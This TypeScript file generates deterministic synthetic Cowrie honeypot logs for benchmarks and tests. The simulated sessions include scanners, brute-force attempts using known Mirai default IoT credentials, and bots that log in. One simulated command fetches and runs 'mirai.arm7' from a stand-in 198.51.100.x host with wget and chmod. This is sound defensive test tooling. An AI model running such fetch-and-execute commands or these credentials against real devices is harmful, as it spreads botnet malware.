/**
 * A generated Cowrie JSON log in Cowrie's real shapes (the events and attributes of its
 * docs/OUTPUT.rst, newer form: client.kex, duration_ms): a mix of scanners (connect, version,
 * kex, close), brute-forcers (a run of failed logins) and bots that get in (env, commands one of
 * which the shell does not know, a download, a tty log). Deterministic for a seed. For
 * benchmarks and tests; the counts per kind are returned with it.
 */
import { seededRandom } from '../../../util/seeded-random.js';

const SENSOR = 'bench-sensor';
const T0 = Date.UTC(2026, 10, 1);
const CREDS: [string, string][] = [['root', 'xc3511'], ['root', 'vizxv'], ['admin', 'admin'], ['root', '888888'], ['root', 'default'], ['support', 'support'], ['user', 'user'], ['root', '7ujMko0admin']];
const COMMANDS = ['enable', 'system', 'shell', 'sh', 'cat /proc/mounts; /bin/busybox ECCHI', 'cd /tmp || cd /var/run', 'uname -a'];
const KEX = {
  hassh: '92674389fa1e47a27ddd8d9b63ecd42b',
  hasshAlgorithms: 'curve25519-sha256,diffie-hellman-group14-sha1;aes128-ctr,aes256-ctr;hmac-sha2-256,hmac-sha1;none',
  kexAlgs: ['curve25519-sha256', 'diffie-hellman-group14-sha1'], keyAlgs: ['ssh-ed25519', 'ssh-rsa'], encCS: ['aes128-ctr', 'aes256-ctr'],
  macCS: ['hmac-sha2-256', 'hmac-sha1'], compCS: ['none'], langCS: [''],
};

export interface GeneratedLog { events: number; sessions: number; kinds: Record<string, number> }

/** Calls `emit` with lines (newline-terminated text, about 1 MB at a time) until `events` events are written. */
export function cowrieSessions(events: number, emit: (text: string) => void, seed = 18, sources = 20_000): GeneratedLog {
  const rand = seededRandom(seed);
  const kinds: Record<string, number> = {};
  let buf: string[] = [];
  let written = 0;
  let sessions = 0;
  let t = T0;
  const push = (o: Record<string, unknown>, kind: string): void => {
    buf.push(JSON.stringify(o));
    kinds[kind] = (kinds[kind] ?? 0) + 1;
    written++;
    if (buf.length >= 5000) { emit(`${buf.join('\n')}\n`); buf = []; }
  };
  while (written < events) {
    const k = Math.floor(rand() * sources);
    const src = `${100 + (k >> 16)}.${(k >> 8) & 255}.${k & 255}.${1 + (k % 250)}`;
    const session = (sessions++).toString(16).padStart(12, '0');
    const telnet = rand() < 0.5;
    const base = (d: number): Record<string, unknown> => ({ timestamp: new Date(t + d).toISOString().replace('Z', `${String(Math.floor(rand() * 1000)).padStart(3, '0')}Z`), session, src_ip: src, sensor: SENSOR });
    const srcPort = 1024 + Math.floor(rand() * 60000);
    push({ eventid: 'cowrie.session.connect', ...base(0), message: `New connection: ${src}:${srcPort} (172.17.0.3:2222) [session: ${session}]`, src_port: srcPort, dst_ip: '172.17.0.3', dst_port: telnet ? 2223 : 2222, protocol: telnet ? 'telnet' : 'ssh', isError: 0, system: 'cowrie.ssh.factory.CowrieSSHFactory' }, 'session.connect');
    let d = 5;
    if (!telnet) {
      push({ eventid: 'cowrie.client.version', ...base(d++), version: 'SSH-2.0-Go', message: 'Remote SSH version: SSH-2.0-Go' }, 'client.version');
      push({ eventid: 'cowrie.client.kex', ...base(d++), ...KEX, message: `SSH client hassh fingerprint: ${KEX.hassh}` }, 'client.fingerprint');
    }
    const r = rand();
    if (r > 0.6) {
      const tries = 1 + Math.floor(rand() * 6);
      for (let i = 0; i < tries; i++) {
        const [u, p] = CREDS[Math.floor(rand() * CREDS.length)] as [string, string];
        push({ eventid: 'cowrie.login.failed', ...base(d += 300), username: u, password: p, message: `login attempt [${u}/${p}] failed` }, 'login');
      }
      if (r > 0.9) {
        push({ eventid: 'cowrie.login.success', ...base(d += 300), username: 'root', password: 'xc3511', message: 'login attempt [root/xc3511] succeeded' }, 'login');
        push({ eventid: 'cowrie.client.size', ...base(d += 5), width: 80, height: 24, message: 'Terminal Size: 80 24' }, 'client.fingerprint');
        push({ eventid: 'cowrie.client.var', ...base(d += 5), name: 'LANG', value: 'C', message: 'request_env: LANG=C' }, 'client.fingerprint');
        push({ eventid: 'cowrie.log.open', ...base(d += 5), ttylog: `var/lib/cowrie/tty/${session}`, message: 'Opening TTY Log' }, 'ignored');
        for (const c of COMMANDS) push({ eventid: 'cowrie.command.input', ...base(d += 200), input: c, message: `CMD: ${c}` }, 'command');
        push({ eventid: 'cowrie.command.failed', ...base(d += 1), input: 'enable', message: 'Command not found: enable' }, 'command');
        const n = Math.floor(rand() * 50);
        const sha = (n * 2654435761 >>> 0).toString(16).padStart(8, '0').repeat(8);
        const url = `http://198.51.100.${n}/bins/mirai.arm7`;
        push({ eventid: 'cowrie.command.input', ...base(d += 200), input: `wget ${url}; chmod 777 mirai.arm7; ./mirai.arm7`, message: 'CMD: wget' }, 'command');
        push({ eventid: 'cowrie.session.file_download', ...base(d += 500), url, outfile: `var/lib/cowrie/downloads/${sha}`, shasum: sha, destfile: 'mirai.arm7', duplicate: n > 10, message: `Downloaded URL (${url}) with SHA-256 ${sha} to var/lib/cowrie/downloads/${sha}` }, 'download');
        push({ eventid: 'cowrie.log.closed', ...base(d += 100), ttylog: `var/lib/cowrie/tty/${sha}`, size: 1200 + n, shasum: sha, duplicate: false, duration_ms: d, message: 'Closing TTY Log' }, 'tty');
      }
    }
    push({ eventid: 'cowrie.session.closed', ...base(d += 50), duration_ms: d, message: `Connection lost after ${Math.round(d / 1000)} seconds` }, 'session.close');
    t += 1 + Math.floor(rand() * 40);
  }
  if (buf.length > 0) emit(`${buf.join('\n')}\n`);
  return { events: written, sessions, kinds };
}
